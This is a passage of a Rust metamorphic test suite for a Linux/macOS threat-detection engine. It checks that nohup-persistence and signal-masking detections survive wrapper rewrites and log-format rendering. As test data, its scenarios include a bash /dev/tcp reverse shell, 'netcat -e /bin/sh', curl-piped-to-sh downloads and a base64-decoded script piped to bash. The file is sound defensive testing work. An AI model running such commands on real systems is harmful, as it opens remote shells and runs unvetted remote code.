//! Metamorphic tests of Linux/macOS detection: a verdict must not depend on how a
//! launch was spelled.
//!
//! Every malicious scenario of `examples/` (the kernel end-to-end scenarios of
//! `scripts/audit-scenarios.sh` and the syslog ones) and a few the kernel test cannot
//! run safely is rewritten into variants an attacker would use:
//!
//! * each wrapper of issue #14 point 2 in front of nohup, each behind it, and pairs of
//!   them nested two deep (argv wrappers, `sh/bash/dash/zsh/ksh/busybox sh -c` strings,
//!   `su -c`, `runuser --`, `script -qc`, `flock`, `xargs`, `find -exec`,
//!   `systemd-run`, `start-stop-daemon`, `daemonize` …);
//! * nohup by another name: busybox and toybox applets, a symlink, `exec -a`, a copy;
//! * the payload moved to each staging area of `rules/nohup.toml`;
//! * the kernel's encodings: arguments hex-encoded (spaces, quotes) and split
//!   (`aN_len`, `aN[i]`) when longer than 7.5 KB.
//!
//! Each variant is turned into the process starts the kernel would log (fork and
//! exec order, pids, parents, the exec-in-place of nohup and `env`), rendered as real
//! log records of every Linux/macOS shape (auditd RAW, auditd ENRICHED, Sysmon for
//! Linux in syslog, eslogger JSON), and read by the real sniffers, parsers and engine.
//! The oracle is the base scenario's verdict: malicious ones keep their detection type
//! at severity ≥ medium, in exactly one finding; benign ones stay ≤ low under the same
//! wrappings.

use std::fmt::Write as _;
use std::io::Write as _;
use std::sync::{Arc, LazyLock};

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD as BASE64;

use sighunt_core::detectors::{self, Detector};
use sighunt_core::engine::{Engine, EngineOptions, Hold};
use sighunt_core::finding::{DetectionType, Finding, Severity};
use sighunt_core::rules::Rules;
use sighunt_core::sources::feeder::Feeder;

// ---------------------------------------------------------------------------------
// The process model: what the kernel sees when a command line runs
// ---------------------------------------------------------------------------------

/// How a layer starts the next one.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum How {
    /// execve in the same process (`nohup`, `env`, `nice`, `exec`).
    InPlace,
    /// fork, then execve in the child (`sudo`, `timeout`, a shell running a command).
    Child,
    /// A service manager starts it: parent pid 1, a new session.
    Init,
}

/// One exec the kernel logs.
#[derive(Debug, Clone)]
struct Layer {
    argv: Vec<String>,
    /// The image, when it is not what argv[0] names (`exec -a`, a symlink).
    exe: Option<String>,
    how_next: How,
    /// Commands of the same pipeline, forked by the same parent just before.
    siblings: Vec<Vec<String>>,
}

/// A command as the layers of execs it leads to, outermost first; the last is the
/// payload.
#[derive(Debug, Clone)]
struct Cmd {
    layers: Vec<Layer>,
}

fn words(s: &[&str]) -> Vec<String> {
    s.iter().map(|w| w.to_string()).collect()
}

fn layer(argv: Vec<String>, how_next: How) -> Layer {
    Layer {
        argv,
        exe: None,
        how_next,
        siblings: Vec::new(),
    }
}

impl Cmd {
    fn leaf(argv: &[&str]) -> Cmd {
        Cmd {
            layers: vec![layer(words(argv), How::InPlace)],
        }
    }

    /// `prefix… <this command's argv>`, the wrapper starting it `how`.
    fn argv_wrap(mut self, prefix: &[&str], suffix: &[&str], how: How) -> Cmd {
        let mut argv = words(prefix);
        argv.extend(self.layers[0].argv.iter().cloned());
        argv.extend(words(suffix));
        self.layers.insert(0, layer(argv, how));
        self
    }

    /// A shell string that runs this command: `before` + the quoted argv + `after`.
    fn text_wrap(mut self, shell: &[&str], before: &str, after: &str, how: How) -> Cmd {
        let text = format!("{before}{}{after}", quote_argv(&self.layers[0].argv));
        let mut argv = words(shell);
        argv.push(text);
        self.layers.insert(0, layer(argv, how));
        self
    }

    /// A parent whose argv does not show this command (a script file runs it).
    fn parent(mut self, argv: &[&str]) -> Cmd {
        self.layers.insert(0, layer(words(argv), How::Child));
        self
    }

    fn payload(&self) -> &Layer {
        self.layers.last().unwrap()
    }
}

/// Quotes argv for a shell string only where needed (as a person would write it).
fn quote_argv(argv: &[String]) -> String {
    argv.iter()
        .map(|w| {
            if !w.is_empty()
                && w.chars()
                    .all(|c| c.is_ascii_alphanumeric() || "/._-=:,+@%{}".contains(c))
            {
                w.clone()
            } else {
                format!("'{}'", w.replace('\'', r"'\''"))
            }
        })
        .collect::<Vec<_>>()
        .join(" ")
}

/// One process start, as a log would carry it.
#[derive(Debug, Clone)]
struct Exec {
    time_ms: i64,
    pid: u32,
    ppid: u32,
    uid: u32,
    session: u32,
    exe: String,
    argv: Vec<String>,
    cwd: String,
}

/// A socket the payload binds (auditd only).
#[derive(Debug, Clone)]
struct Bind {
    time_ms: i64,
    pid: u32,
    ppid: u32,
    /// `struct sockaddr_in` as the kernel writes SOCKADDR.
    saddr: String,
    exe: String,
}

#[derive(Debug, Default)]
struct Trace {
    execs: Vec<Exec>,
    binds: Vec<Bind>,
}

/// The simulated host: an interactive shell (pid 4000) of user `uid` in `cwd`.
struct Sim {
    next_pid: u32,
    time_ms: i64,
    uid: u32,
    cwd: String,
    /// Audit session of the next exec: a service manager's children have none.
    session: u32,
    trace: Trace,
}

const SHELL_PID: u32 = 4000;
const SESSION: u32 = 7;

/// The image the kernel records for argv[0].
fn image_of(argv0: &str) -> String {
    if argv0.contains('/') {
        return match argv0 {
            "/bin/sh" => "/usr/bin/dash".into(),
            "/bin/bash" => "/usr/bin/bash".into(),
            other => other.into(),
        };
    }
    match argv0 {
        "sh" => "/usr/bin/dash".into(),
        "busybox" => "/usr/bin/busybox".into(),
        "toybox" => "/usr/bin/toybox".into(),
        "runuser" | "chroot" | "nologin" => format!("/usr/sbin/{argv0}"),
        "start-stop-daemon" | "daemonize" => format!("/usr/sbin/{argv0}"),
        other => format!("/usr/bin/{other}"),
    }
}

impl Sim {
    fn new(uid: u32, cwd: &str) -> Sim {
        Sim {
            next_pid: 5000,
            time_ms: 1_795_900_000_000,
            uid,
            cwd: cwd.into(),
            session: SESSION,
            trace: Trace::default(),
        }
    }

    fn tick(&mut self) -> i64 {
        self.time_ms += 3;
        self.time_ms
    }

    fn fork(&mut self) -> u32 {
        self.next_pid += 1;
        self.next_pid
    }

    fn exec(&mut self, pid: u32, ppid: u32, argv: &[String], exe: Option<&str>) {
        let exe = exe.map_or_else(|| image_of(&argv[0]), str::to_string);
        let time_ms = self.tick();
        let (uid, cwd, session) = (self.uid, self.cwd.clone(), self.session);
        self.trace.execs.push(Exec {
            time_ms,
            pid,
            ppid,
            uid,
            session,
            exe,
            argv: argv.to_vec(),
            cwd,
        });
    }

    /// Runs a command typed at the interactive shell; returns the payload's pid.
    fn run(&mut self, cmd: &Cmd) -> u32 {
        let mut ppid = SHELL_PID;
        let mut pid = self.fork();
        let mut how = How::Child;
        for (i, l) in cmd.layers.iter().enumerate() {
            if i > 0 {
                match how {
                    How::InPlace => {}
                    How::Child => {
                        ppid = pid;
                        pid = self.fork();
                    }
                    How::Init => {
                        ppid = 1;
                        pid = self.fork();
                        self.session = u32::MAX;
                    }
                }
            }
            for s in &l.siblings {
                let sib = self.fork();
                self.exec(sib, ppid, s, None);
            }
            self.exec(pid, ppid, &l.argv, l.exe.as_deref());
            how = l.how_next;
        }
        self.session = SESSION;
        pid
    }

    /// A plain command at the shell prompt (a preparation step).
    fn prep(&mut self, argv: &[&str]) {
        let pid = self.fork();
        self.exec(pid, SHELL_PID, &words(argv), None);
    }

    fn bind(&mut self, pid: u32, saddr: &str, exe: &str) {
        let time_ms = self.tick() + 200;
        self.trace.binds.push(Bind {
            time_ms,
            pid,
            ppid: SHELL_PID,
            saddr: saddr.into(),
            exe: exe.into(),
        });
    }
}

// ---------------------------------------------------------------------------------
// Rendering: the records each source writes
// ---------------------------------------------------------------------------------

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Shape {
    AuditRaw,
    AuditEnriched,
    SysmonLinux,
    Eslogger,
}

const SHAPES: [Shape; 4] = [
    Shape::AuditRaw,
    Shape::AuditEnriched,
    Shape::SysmonLinux,
    Shape::Eslogger,
];

/// The kernel's `MAX_EXECVE_AUDIT_LEN`: longer arguments are split.
const MAX_EXECVE_AUDIT_LEN: usize = 7500;

fn hex(b: &[u8]) -> String {
    b.iter()
        .fold(String::with_capacity(b.len() * 2), |mut s, c| {
            let _ = write!(s, "{c:02X}");
            s
        })
}

/// The kernel hex-encodes an argument with a byte below 0x21, above 0x7e, or `"`.
fn needs_hex(s: &str) -> bool {
    s.bytes().any(|b| !(0x21..=0x7e).contains(&b) || b == b'"')
}

/// `a0="x" a1=6162 a2_len=N a2[0]=… …`: the EXECVE record(s) of one exec, split the
/// way the kernel splits (one record per chunk of a long argument).
fn execve_records(head: &str, argv: &[String]) -> Vec<String> {
    let mut records = Vec::new();
    let mut cur = format!("{head} argc={}", argv.len());
    for (i, a) in argv.iter().enumerate() {
        let enc = if needs_hex(a) || a.len() > MAX_EXECVE_AUDIT_LEN {
            hex(a.as_bytes())
        } else {
            format!("\"{a}\"")
        };
        if a.len() > MAX_EXECVE_AUDIT_LEN {
            let _ = write!(cur, " a{i}_len={}", enc.len());
            for (j, chunk) in enc.as_bytes().chunks(7400).enumerate() {
                records.push(std::mem::replace(&mut cur, head.to_string()));
                let _ = write!(cur, " a{i}[{j}]={}", std::str::from_utf8(chunk).unwrap());
            }
        } else {
            let _ = write!(cur, " a{i}={enc}");
        }
    }
    records.push(cur);
    records
}

fn iso(ms: i64) -> String {
    chrono::DateTime::from_timestamp_millis(ms)
        .unwrap()
        .format("%Y-%m-%dT%H:%M:%S%.3fZ")
        .to_string()
}

fn render(shape: Shape, trace: &Trace) -> String {
    let mut out = String::new();
    let mut serial = 100u64;
    let mut lines: Vec<(i64, String)> = Vec::new();
    for e in &trace.execs {
        serial += 1;
        let comm: String = e.exe.rsplit('/').next().unwrap().chars().take(15).collect();
        let text = match shape {
            Shape::AuditRaw | Shape::AuditEnriched => {
                let enriched = shape == Shape::AuditEnriched;
                let node = if enriched { "node=vm " } else { "" };
                let msg = format!(
                    "msg=audit({}.{:03}:{serial}):",
                    e.time_ms / 1000,
                    e.time_ms % 1000
                );
                let mut s = format!(
                    "{node}type=SYSCALL {msg} arch=c000003e syscall=59 success=yes exit=0 a0=55d1 a1=55d2 a2=55d3 a3=0 items=2 ppid={} pid={} auid=1000 uid={uid} gid={uid} euid={uid} suid={uid} fsuid={uid} egid={uid} sgid={uid} fsgid={uid} tty=pts0 ses={} comm=\"{comm}\" exe=\"{}\" key=\"exec\"",
                    e.ppid,
                    e.pid,
                    e.session,
                    e.exe,
                    uid = e.uid
                );
                if enriched {
                    let name = if e.uid == 0 { "root" } else { "alice" };
                    let _ = write!(
                        s,
                        "\x1dARCH=x86_64 SYSCALL=execve AUID=\"alice\" UID=\"{name}\" GID=\"{name}\""
                    );
                }
                s.push('\n');
                for r in execve_records(&format!("{node}type=EXECVE {msg}"), &e.argv) {
                    s.push_str(&r);
                    s.push('\n');
                }
                let _ = writeln!(s, "{node}type=CWD {msg} cwd=\"{}\"", e.cwd);
                let _ = writeln!(
                    s,
                    "{node}type=PATH {msg} item=0 name=\"{}\" inode=1 dev=fe:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL",
                    e.exe
                );
                let title: Vec<u8> = e.argv.join("\0").into_bytes();
                let _ = writeln!(
                    s,
                    "{node}type=PROCTITLE {msg} proctitle={}",
                    hex(&title[..title.len().min(128)])
                );
                s
            }
            Shape::SysmonLinux => {
                let t = iso(e.time_ms);
                let user = if e.uid == 0 { "root" } else { "alice" };
                // CommandLine is argv joined with spaces: no quoting at all.
                let cmdline = xml_escape(&e.argv.join(" "));
                format!(
                    "<14>1 {t} vm sysmon - - - <Event><System><Provider Name=\"Linux-Sysmon\" Guid=\"{{ff032593-a8d3-4f13-b0d6-01fc615a0f97}}\"/><EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime=\"{t}\"/><EventRecordID>{serial}</EventRecordID><Correlation/><Execution ProcessID=\"1120\" ThreadID=\"1120\"/><Channel>Linux-Sysmon/Operational</Channel><Computer>vm</Computer><Security UserId=\"0\"/></System><EventData><Data Name=\"RuleName\">-</Data><Data Name=\"UtcTime\">{t}</Data><Data Name=\"ProcessGuid\">{{ae88b96f-0000-0000-0000-{:012x}}}</Data><Data Name=\"ProcessId\">{}</Data><Data Name=\"Image\">{}</Data><Data Name=\"CommandLine\">{cmdline}</Data><Data Name=\"CurrentDirectory\">{}</Data><Data Name=\"User\">{user}</Data><Data Name=\"ParentProcessGuid\">{{ae88b96f-0000-0000-0000-{:012x}}}</Data><Data Name=\"ParentProcessId\">{}</Data></EventData></Event>\n",
                    u64::from(e.pid) * 1000 + serial,
                    e.pid,
                    xml_escape(&e.exe),
                    xml_escape(&e.cwd),
                    u64::from(e.ppid),
                    e.ppid
                )
            }
            Shape::Eslogger => {
                let token = |pid: u32, ver: u64| serde_json::json!({"auid": 501, "euid": e.uid, "ruid": e.uid, "egid": 20, "rgid": 20, "pid": pid, "asid": e.session, "pidversion": ver});
                let v = serde_json::json!({
                    "schema_version": 1, "version": 9, "event_type": 9, "action_type": 1,
                    "time": iso(e.time_ms), "seq_num": serial, "global_seq_num": serial,
                    "process": {"audit_token": token(e.pid, serial * 2), "executable": {"path": "/bin/zsh", "path_truncated": false}, "ppid": e.ppid},
                    "event": {"exec": {
                        "args": e.argv, "cwd": {"path": macos_path(&e.cwd), "path_truncated": false}, "script": null,
                        "target": {"audit_token": token(e.pid, serial * 2 + 1), "parent_audit_token": token(e.ppid, u64::from(e.ppid)),
                                   "ppid": e.ppid, "executable": {"path": macos_path(&e.exe), "path_truncated": false}}
                    }}
                });
                format!("{v}\n")
            }
        };
        lines.push((e.time_ms, text));
    }
    if matches!(shape, Shape::AuditRaw | Shape::AuditEnriched) {
        let node = if shape == Shape::AuditEnriched {
            "node=vm "
        } else {
            ""
        };
        for b in &trace.binds {
            serial += 1;
            let msg = format!(
                "msg=audit({}.{:03}:{serial}):",
                b.time_ms / 1000,
                b.time_ms % 1000
            );
            let comm = b.exe.rsplit('/').next().unwrap();
            let mut s = String::new();
            for (nr, name) in [(49, "SOCKADDR"), (50, "")] {
                let _ = writeln!(
                    s,
                    "{node}type=SYSCALL {msg} arch=c000003e syscall={nr} success=yes exit=0 a0=3 a1=1 a2=10 a3=0 items=0 ppid={} pid={} auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses={SESSION} comm=\"{comm}\" exe=\"{}\" key=\"net\"",
                    b.ppid, b.pid, b.exe
                );
                if !name.is_empty() {
                    let _ = writeln!(s, "{node}type=SOCKADDR {msg} saddr={}", b.saddr);
                }
                serial += 1;
            }
            lines.push((b.time_ms, s));
        }
    }
    lines.sort_by_key(|(t, _)| *t);
    for (_, l) in lines {
        out.push_str(&l);
    }
    out
}

/// eslogger is macOS: /tmp and /var are symlinks into /private.
fn macos_path(p: &str) -> String {
    if p.starts_with("/tmp/") || p.starts_with("/var/") {
        format!("/private{p}")
    } else {
        p.to_string()
    }
}

fn xml_escape(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}

/// Reads a log the way `sighunt hunt` does (format sniffed, real parser, one engine).
fn hunt(text: &str) -> Vec<Finding> {
    // The detector set is built once (as a hunt does) and copied for each input.
    static DETECTORS: LazyLock<Vec<Box<dyn Detector>>> =
        LazyLock::new(|| detectors::default_set(&Rules::embedded()).expect("embedded rules"));
    let options = EngineOptions {
        hold: Hold::Batch,
        ..EngineOptions::default()
    };
    let on_error = Box::new(|e: &sighunt_core::input::InputError| panic!("input error: {e}"));
    let mut engine = Engine::with_detectors(detectors::clone_set(&DETECTORS), options, on_error);
    let mut feeder = Feeder::new(Arc::from("variant.log"), None);
    for (i, line) in text.lines().enumerate() {
        feeder.line(line.as_bytes(), i as u64 + 1, &mut engine);
    }
    feeder.flush(&mut engine);
    engine.finish().into_iter().map(|r| r.finding).collect()
}

// ---------------------------------------------------------------------------------
// Scenarios
// ---------------------------------------------------------------------------------

/// A scenario: a shell session of preparation steps, then one launch.
#[derive(Clone)]
struct Scenario {
    id: &'static str,
    /// The detection a malicious scenario must keep; `None` for benign ones.
    expect: Option<DetectionType>,
    uid: u32,
    cwd: &'static str,
    prep: Vec<Vec<&'static str>>,
    /// The launch, as typed (without nohup for signal scenarios).
    cmd: Cmd,
    /// The payload binds this address (a SOCKADDR hex string).
    binds: Option<&'static str>,
    /// The payload's path, when moving it between staging areas makes sense.
    movable: Option<&'static str>,
}

fn nohup(inner: Cmd) -> Cmd {
    inner.argv_wrap(&["nohup"], &[], How::InPlace)
}

const LOOPBACK_14444: &str = "0200386C7F0000010000000000000000";
const LOOPBACK_8000: &str = "02001F407F0000010000000000000000";

fn malicious() -> Vec<Scenario> {
    let n = Some(DetectionType::Nohup);
    let s = Some(DetectionType::SignalMask);
    let sc = |id, expect, cmd, prep: Vec<Vec<&'static str>>, movable| Scenario {
        id,
        expect,
        uid: 0,
        cwd: "/root",
        prep,
        cmd,
        binds: None,
        movable,
    };
    let mut v = vec![
        Scenario {
            binds: Some(LOOPBACK_14444),
            ..sc(
                "01 seed test 1: nc listener",
                n,
                nohup(Cmd::leaf(&["nc", "-lvp", "14444", "-s", "127.0.0.1"])),
                vec![],
                None,
            )
        },
        sc(
            "02 seed test 2: chmod +x, temp payload",
            n,
            nohup(Cmd::leaf(&["/tmp/df00tech_test_payload.sh"])),
            vec![vec!["chmod", "+x", "/tmp/df00tech_test_payload.sh"]],
            Some("/tmp/df00tech_test_payload.sh"),
        ),
        sc(
            "03 seed test 3: python ignores HUP and TERM",
            s,
            Cmd::leaf(&[
                "python3",
                "-c",
                "import signal,time; signal.signal(signal.SIGHUP, signal.SIG_IGN); signal.signal(signal.SIGTERM, signal.SIG_IGN); time.sleep(1)",
            ]),
            vec![],
            None,
        ),
        sc(
            "04 temp payload",
            n,
            nohup(Cmd::leaf(&["/tmp/sighunt-e2e.6l1UPz/x4.sh"])),
            vec![],
            Some("/tmp/sighunt-e2e.6l1UPz/x4.sh"),
        ),
        sc(
            "05b copy of nc with -e",
            n,
            nohup(Cmd::leaf(&[
                "/tmp/sighunt-e2e.6l1UPz/netcat",
                "-e",
                "/bin/sh",
                "127.0.0.1",
                "9",
            ])),
            vec![],
            Some("/tmp/sighunt-e2e.6l1UPz/netcat"),
        ),
        sc(
            "08a /dev/shm payload",
            n,
            nohup(Cmd::leaf(&["/dev/shm/sighunt-e2e.CeLvzO", "0.3"])),
            vec![],
            Some("/dev/shm/sighunt-e2e.CeLvzO"),
        ),
        sc(
            "08c reverse shell",
            n,
            nohup(Cmd::leaf(&[
                "bash",
                "-c",
                "bash -i >& /dev/tcp/127.0.0.1/9 0>&1",
            ])),
            vec![],
            None,
        ),
        sc(
            "09 hidden kworker",
            n,
            nohup(Cmd::leaf(&["/tmp/.sighunt-W96lyN/kworker", "1"])),
            vec![],
            Some("/tmp/.sighunt-W96lyN/kworker"),
        ),
        sc(
            "12a perl ignores TERM",
            s,
            Cmd::leaf(&["perl", "-e", "$SIG{TERM}=\"IGNORE\"; sleep 1"]),
            vec![],
            None,
        ),
        sc(
            "12b bash trap '' HUP INT TERM",
            s,
            Cmd::leaf(&["bash", "-c", "trap '' HUP INT TERM; sleep 1"]),
            vec![],
            None,
        ),
        sc(
            "13 UNC3886: implant copied into /bin, started by an init script",
            n,
            nohup(Cmd::leaf(&["/bin/support"])).parent(&[
                "/bin/sh",
                "/etc/init.d/localnet",
                "start",
            ]),
            vec![vec!["cp", "/tmp/support", "/bin/support"]],
            None,
        ),
        Scenario {
            uid: 33,
            cwd: "/var/www/html",
            ..sc(
                "14 web shell",
                n,
                nohup(Cmd::leaf(&["/tmp/sighunt-e2e.6l1UPz/websvc", "0.3"])),
                vec![],
                Some("/tmp/sighunt-e2e.6l1UPz/websvc"),
            )
        },
        sc(
            "s1 sudo nohup hidden payload",
            n,
            nohup(Cmd::leaf(&["/tmp/.sighunt-cache-CffUt6/update"])),
            vec![],
            Some("/tmp/.sighunt-cache-CffUt6/update"),
        ),
        sc(
            "p1 python script in /dev/shm",
            n,
            nohup(Cmd::leaf(&["python3", "/dev/shm/.a.py"])),
            vec![],
            None,
        ),
        sc(
            "p2 payload written by curl -o",
            n,
            nohup(Cmd::leaf(&["/usr/local/bin/dbus-helper"])),
            vec![
                vec![
                    "curl",
                    "-fsSLo",
                    "/usr/local/bin/dbus-helper",
                    "http://203.0.113.7/d",
                ],
                vec!["chmod", "755", "/usr/local/bin/dbus-helper"],
            ],
            None,
        ),
    ];
    // Pipelines and substitutions (point 4): the download or decoder is a sibling.
    let mut piped = nohup(Cmd::leaf(&["sh"]));
    piped.layers[0].siblings = vec![words(&["curl", "-fsSL", "http://203.0.113.7/s.sh"])];
    v.push(sc("p3 curl | nohup sh", n, piped, vec![], None));
    let mut decoded = nohup(Cmd::leaf(&["bash"]));
    decoded.layers[0].siblings = vec![words(&["base64", "-d"])];
    v.push(sc("p4 base64 -d | nohup bash", n, decoded, vec![], None));
    let mut substituted = nohup(Cmd::leaf(&["sh", "-c", "while :; do sleep 60; done"]));
    substituted.layers[0].siblings = vec![words(&["curl", "-fsSL", "http://203.0.113.7/loop"])];
    v.push(sc(
        "p5 nohup sh -c \"$(curl …)\"",
        n,
        substituted,
        vec![],
        None,
    ));
    v.push(sc(
        "p6 curl | nohup sh inside one shell string",
        n,
        Cmd::leaf(&["sh"]).text_wrap(
            &["bash", "-c"],
            "curl -fsSL http://203.0.113.7/s.sh | nohup ",
            " &",
            How::Child,
        ),
        vec![],
        None,
    ));
    v
}

fn benign() -> Vec<Scenario> {
    let sc = |id, cwd, cmd, prep: Vec<Vec<&'static str>>| Scenario {
        id,
        expect: None,
        uid: 1000,
        cwd,
        prep,
        cmd,
        binds: None,
        movable: None,
    };
    vec![
        sc(
            "10 admin backup",
            "/root",
            nohup(Cmd::leaf(&["/opt/sighunt-admin/backup.sh"])).text_wrap(
                &["sh", "-c"],
                "",
                " > /var/log/backup.log 2>&1 &",
                How::Child,
            ),
            vec![],
        ),
        sc(
            "b1 chmod +x then nohup of a project script",
            "/home/alice/src/app",
            nohup(Cmd::leaf(&["./run.sh"])),
            vec![vec!["chmod", "+x", "./run.sh"]],
        ),
        sc(
            "b2 jupyter from ~/.local/bin",
            "/home/alice",
            nohup(Cmd::leaf(&[
                "/home/alice/.local/bin/jupyter-lab",
                "--no-browser",
            ])),
            vec![],
        ),
        sc(
            "b3 mdbook from ~/.cargo/bin",
            "/home/alice/book",
            nohup(Cmd::leaf(&["/home/alice/.cargo/bin/mdbook", "serve"])),
            vec![],
        ),
        Scenario {
            binds: Some(LOOPBACK_8000),
            ..sc(
                "b4 loopback http.server",
                "/home/alice/site",
                nohup(Cmd::leaf(&[
                    "python3",
                    "-m",
                    "http.server",
                    "8000",
                    "--bind",
                    "127.0.0.1",
                ])),
                vec![],
            )
        },
        sc(
            "b5 vendor init script starts its daemon",
            "/",
            nohup(Cmd::leaf(&["/usr/sbin/vendor-agentd", "--daemon"])).parent(&[
                "/bin/sh",
                "/etc/init.d/vendor-agent",
                "start",
            ]),
            vec![],
        ),
        sc(
            "b6 rsync backup",
            "/home/alice",
            nohup(Cmd::leaf(&[
                "rsync",
                "-a",
                "/srv/data/",
                "/mnt/backup/data/",
            ])),
            vec![],
        ),
        sc(
            "b7 java service",
            "/opt/app",
            nohup(Cmd::leaf(&["java", "-Xmx2g", "-jar", "/opt/app/app.jar"])),
            vec![],
        ),
        sc(
            "b8 pyenv python training run",
            "/home/alice/ml",
            nohup(Cmd::leaf(&[
                "/home/alice/.pyenv/versions/3.12.1/bin/python",
                "train.py",
                "--epochs",
                "40",
            ])),
            vec![],
        ),
        sc(
            "b9 built binary copied into place",
            "/home/alice/src/tool",
            nohup(Cmd::leaf(&["/home/alice/bin/tool", "--serve"])),
            vec![vec!["cp", "target/release/tool", "/home/alice/bin/tool"]],
        ),
        sc(
            "11a grep nohup",
            "/home/alice",
            Cmd::leaf(&["grep", "nohup", "/home/alice/notes.txt"]),
            vec![],
        ),
        sc(
            "11b python names SIGHUP",
            "/home/alice",
            Cmd::leaf(&["python3", "-c", "import signal; print(signal.SIGHUP)"]),
            vec![],
        ),
        sc(
            "b10 curl a health check, then nohup a script",
            "/home/alice/svc",
            nohup(Cmd::leaf(&["/home/alice/svc/start.sh"])),
            vec![vec!["curl", "-fsS", "http://127.0.0.1:8080/health"]],
        ),
    ]
}

// ---------------------------------------------------------------------------------
// Variants
// ---------------------------------------------------------------------------------

/// A rewriting of a command that must not change its verdict.
type Rewrite = fn(Cmd) -> Cmd;

/// Wrappers in front of a command (point 2), each with the process shape it has.
fn outer_wrappers() -> Vec<(&'static str, Rewrite)> {
    vec![
        ("env", |c| {
            c.argv_wrap(&["env", "LANG=C"], &[], How::InPlace)
        }),
        ("nice", |c| {
            c.argv_wrap(&["nice", "-n", "19"], &[], How::InPlace)
        }),
        ("stdbuf", |c| {
            c.argv_wrap(&["stdbuf", "-oL"], &[], How::InPlace)
        }),
        ("ionice", |c| {
            c.argv_wrap(&["ionice", "-c", "3"], &[], How::InPlace)
        }),
        ("timeout", |c| {
            c.argv_wrap(&["timeout", "3600"], &[], How::Child)
        }),
        ("setsid -f", |c| {
            c.argv_wrap(&["setsid", "-f"], &[], How::Child)
        }),
        ("sudo -b", |c| c.argv_wrap(&["sudo", "-b"], &[], How::Child)),
        ("sudo -u", |c| {
            c.argv_wrap(&["sudo", "-u", "root", "-E"], &[], How::Child)
        }),
        ("runuser --", |c| {
            c.argv_wrap(&["runuser", "-u", "root", "--"], &[], How::Child)
        }),
        ("flock", |c| {
            c.argv_wrap(&["flock", "-n", "/run/lock/job.lock"], &[], How::Child)
        }),
        ("flock -c", |c| {
            c.text_wrap(&["flock", "/run/lock/job.lock", "-c"], "", "", How::Child)
        }),
        ("xargs", |c| {
            c.argv_wrap(&["xargs", "-r", "-0"], &[], How::Child)
        }),
        ("find -exec", |c| {
            c.argv_wrap(
                &["find", "/etc/hostname", "-maxdepth", "0", "-exec"],
                &[";"],
                How::Child,
            )
        }),
        ("chroot", |c| {
            c.argv_wrap(&["chroot", "/"], &[], How::InPlace)
        }),
        ("unshare", |c| {
            c.argv_wrap(
                &["unshare", "-m", "--propagation", "private"],
                &[],
                How::InPlace,
            )
        }),
        ("nsenter", |c| {
            c.argv_wrap(&["nsenter", "-t", "1", "-m", "-u"], &[], How::InPlace)
        }),
        ("systemd-run", |c| {
            c.argv_wrap(
                &["systemd-run", "--unit", "cache-sync", "--quiet"],
                &[],
                How::Init,
            )
        }),
        ("start-stop-daemon", |mut c| {
            // `--exec PATH -- ARGS`: the daemon's argv[0] is PATH.
            let argv = c.layers[0].argv.clone();
            let mut outer = words(&["start-stop-daemon", "--start", "--background", "--exec"]);
            outer.push(image_of(&argv[0]));
            outer.push("--".into());
            outer.extend(argv[1..].iter().cloned());
            c.layers[0].argv[0] = image_of(&argv[0]);
            c.layers.insert(0, layer(outer, How::Init));
            c
        }),
        ("daemonize", |mut c| {
            let argv0 = image_of(&c.layers[0].argv[0]);
            c.layers[0].argv[0] = argv0.clone();
            let mut outer = words(&["daemonize", "-c", "/"]);
            outer.extend(c.layers[0].argv.iter().cloned());
            c.layers.insert(0, layer(outer, How::Init));
            c
        }),
        ("sh -c &", |c| {
            c.text_wrap(&["sh", "-c"], "", " >/dev/null 2>&1 &", How::Child)
        }),
        ("bash -c", |c| {
            c.text_wrap(&["bash", "-c"], "cd /; ", "", How::Child)
        }),
        ("dash -c", |c| {
            c.text_wrap(&["dash", "-c"], "", " &", How::Child)
        }),
        ("zsh -c &!", |c| {
            c.text_wrap(&["zsh", "-c"], "", " &!", How::Child)
        }),
        ("ksh -c disown", |c| {
            c.text_wrap(&["ksh", "-c"], "", " & disown", How::Child)
        }),
        ("busybox sh -c", |c| {
            c.text_wrap(&["busybox", "sh", "-c"], "", " &", How::Child)
        }),
        ("su -c", |c| {
            // su forks a login shell that runs the string.
            let inner = c.text_wrap(&["bash", "-c"], "", "", How::Child);
            let text = inner.layers[0].argv[2].clone();
            let mut outer = words(&["su", "root", "-c"]);
            outer.push(text);
            let mut inner = inner;
            inner.layers.insert(0, layer(outer, How::Child));
            inner
        }),
        ("script -qc", |c| {
            let inner = c.text_wrap(&["bash", "-c"], "", "", How::Child);
            let text = inner.layers[0].argv[2].clone();
            let mut outer = words(&["script", "-qc"]);
            outer.push(text);
            outer.push("/dev/null".into());
            let mut inner = inner;
            inner.layers.insert(0, layer(outer, How::Child));
            inner
        }),
        ("sh -c P=…; \"$P\" …", |mut c| {
            // The program's name only in a variable the string sets.
            let argv = c.layers[0].argv.clone();
            let text = format!(
                "P={}; H=${{P##*/}}; \"$P\" {} &",
                quote_argv(&argv[..1]),
                quote_argv(&argv[1..])
            );
            c.layers
                .insert(0, layer(words(&["sh", "-c", &text]), How::Child));
            c
        }),
    ]
}

/// The command run by an interpreter's inline code: `python3 -c 'import os;
/// os.system("…")'` (a shell between the interpreter and the command),
/// `subprocess.Popen([...])` (the command is the interpreter's child), Perl
/// `system("…")`. Both sides: a benign launch run from a script stays benign.
fn interpreter_wrappers() -> Vec<(&'static str, Rewrite)> {
    /// A double-quoted string literal (Python and Perl read these escapes alike;
    /// `$` and `@` escaped for Perl's interpolation).
    fn dq(text: &str) -> String {
        let mut out = String::from("\"");
        for c in text.chars() {
            match c {
                '\\' | '"' | '$' | '@' => {
                    out.push('\\');
                    out.push(c);
                }
                _ => out.push(c),
            }
        }
        out.push('"');
        out
    }
    fn through_shell(c: Cmd, interpreter: &str, code: fn(&str) -> String) -> Cmd {
        let c = c.text_wrap(&["sh", "-c"], "", "", How::Child);
        let text = c.layers[0].argv[2].clone();
        let mut c = c;
        c.layers.insert(
            0,
            layer(words(&[interpreter, "-c", &code(&dq(&text))]), How::Child),
        );
        if interpreter == "perl" {
